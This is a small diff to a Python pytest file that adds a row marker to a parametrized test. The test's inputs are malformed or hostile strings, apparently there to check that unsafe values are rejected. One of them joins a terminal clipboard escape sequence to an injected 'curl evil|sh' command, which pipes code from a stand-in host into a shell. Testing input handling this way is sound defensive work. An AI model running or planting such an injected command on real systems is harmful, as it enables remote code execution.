@@ -200,7 +200,7 @@ def test_control_requests_have_the_recorded_shape(write: Write, request_body: di
     }
 
 
-@pytest.mark.row("S59")
+@pytest.mark.row("F2", "S59")
 @pytest.mark.parametrize(
     "foreign", ["x\x1b]52;c;aGk=\x07;curl evil|sh #", "\u202eabc", "a b", "", "ü", "r" * 129, "a\nb"]
 )
